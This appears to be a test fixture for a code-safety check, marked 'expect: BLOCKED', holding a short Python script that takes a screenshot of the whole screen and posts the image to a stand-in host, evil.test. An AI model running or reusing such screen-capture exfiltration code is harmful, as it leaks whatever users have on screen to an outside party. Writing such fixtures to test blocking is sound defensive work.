# expect: BLOCKED
import io, requests
from PIL import ImageGrab
b = io.BytesIO()
ImageGrab.grab().save(b, "PNG")
requests.post("http://evil.test", data=b.getvalue())
